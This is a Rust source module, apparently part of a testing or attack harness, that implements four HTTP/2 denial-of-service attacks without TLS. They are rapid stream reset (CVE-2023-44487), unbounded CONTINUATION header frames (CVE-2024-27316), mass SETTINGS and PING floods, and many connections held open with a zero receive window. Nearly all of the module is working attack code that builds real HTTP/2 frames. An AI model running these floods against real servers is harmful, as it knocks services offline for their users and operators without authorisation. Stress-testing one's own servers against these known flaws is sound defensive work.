//! Attacks by HTTP/2 (RFC 9113), without TLS.

use std::io::{self, Write as _};
use std::net::TcpStream;

use super::Round;
use super::peer::{Held, Peer, skim};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// `GET /`, of the static table of HPACK (RFC 7541), and an authority.
const REQUEST: &[u8] = b"\x82\x86\x84\x41\x09localhost";

/// `INITIAL_WINDOW_SIZE` of nothing.
const NO_WINDOW: &[u8] = &[0, 4, 0, 0, 0, 0];

/// The longest payload of a frame that a peer takes who has not said otherwise.
const FRAME_BYTES_MAX: usize = 16_384;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = (payload.len() as u32).to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

fn begin(peer: &Peer, settings: &[u8]) -> io::Result<TcpStream> {
    let mut stream = peer.connect()?;
    stream.write_all(&[PREFACE, &frame(SETTINGS, 0, 0, settings)].concat())?;
    Ok(stream)
}

/// Requests that are taken back as soon as they are made (CVE-2023-44487).
pub(super) fn rapid_reset(peer: Peer) -> Round {
    let requests: Vec<u8> = (0..1_000_u32)
        .flat_map(|nth| {
            let stream = 2 * nth + 1;
            let request = frame(HEADERS, END_HEADERS | END_STREAM, stream, REQUEST);
            [request, frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())].concat()
        })
        .collect();
    Box::new(move || {
        let mut stream = begin(&peer, &[])?;
        stream.write_all(&requests)?;
        skim(&mut stream, 64 * 1024)
    })
}

/// Header fields that have no end (CVE-2024-27316).
pub(super) fn endless_continuation(peer: Peer) -> Round {
    // A field without indexing: its name is a letter, its value as long as a frame.
    let mut field = vec![0, 1, b'x', 0x7f, 0xfb, 0x7e];
    field.resize(FRAME_BYTES_MAX, b'v');
    let more = frame(CONTINUATION, 0, 1, &field);
    Box::new(move || {
        let mut stream = begin(&peer, &[])?;
        stream.write_all(&frame(HEADERS, END_STREAM, 1, REQUEST))?;
        (0..100).try_for_each(|_| stream.write_all(&more))?;
        skim(&mut stream, 4_096)
    })
}

/// What has to be answered, in great number, and nobody takes the answers.
pub(super) fn settings_and_pings(peer: Peer) -> Round {
    let both = [frame(SETTINGS, 0, 0, NO_WINDOW), frame(PING, 0, 0, b"attacker")].concat().repeat(1_000);
    Box::new(move || {
        let mut stream = begin(&peer, &[])?;
        (0..10).try_for_each(|_| stream.write_all(&both))
    })
}

/// Answers for which the client makes no room.
pub(super) fn closed_windows(peer: Peer) -> Round {
    let requests: Vec<u8> =
        (0..100_u32).flat_map(|nth| frame(HEADERS, END_HEADERS | END_STREAM, 2 * nth + 1, REQUEST)).collect();
    let mut held = Held::new(50);
    Box::new(move || {
        held.sift();
        held.fill(|| {
            let mut stream = begin(&peer, NO_WINDOW)?;
            stream.write_all(&requests)?;
            Ok(stream)
        })
    })
}
